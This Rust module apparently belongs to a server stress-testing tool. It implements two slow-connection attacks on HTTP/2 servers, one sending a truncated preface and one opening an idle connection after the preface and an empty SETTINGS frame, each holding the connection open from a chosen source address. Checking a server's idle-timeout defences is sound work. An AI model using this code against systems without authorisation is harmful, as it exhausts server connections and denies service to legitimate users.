//! HTTP/2, with and without TLS: a part of the preface, and a connection that stays idle.

use super::Attack;
use super::report::Ended;
use super::target::{Target, until_closed};
use futures::future::BoxFuture;
use std::net::IpAddr;
use tokio::io::AsyncWriteExt as _;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// An empty SETTINGS frame.
const SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];

/// Sends the first bytes of the preface.
pub(super) struct PartialPreface;

impl Attack for PartialPreface {
    fn name(&self) -> &'static str {
        "part of the HTTP/2 preface"
    }

    fn connection<'a>(&'a self, target: &'a Target, source: IpAddr) -> BoxFuture<'a, Ended> {
        Box::pin(send(target, source, &[b"PRI * HT"]))
    }
}

/// Opens an HTTP/2 connection and sends no request.
pub(super) struct IdleHttp2;

impl Attack for IdleHttp2 {
    fn name(&self) -> &'static str {
        "HTTP/2 without a request"
    }

    fn connection<'a>(&'a self, target: &'a Target, source: IpAddr) -> BoxFuture<'a, Ended> {
        Box::pin(send(target, source, &[PREFACE, SETTINGS]))
    }
}

async fn send(target: &Target, source: IpAddr, parts: &[&[u8]]) -> Ended {
    let Some(mut stream) = target.connect(source, b"h2", None).await else { return Ended::NotConnected };
    let content = parts.concat();
    if stream.write_all(&content).await.is_ok() && stream.flush().await.is_ok() {
        until_closed(&mut stream).await;
    }
    Ended::Closed
}
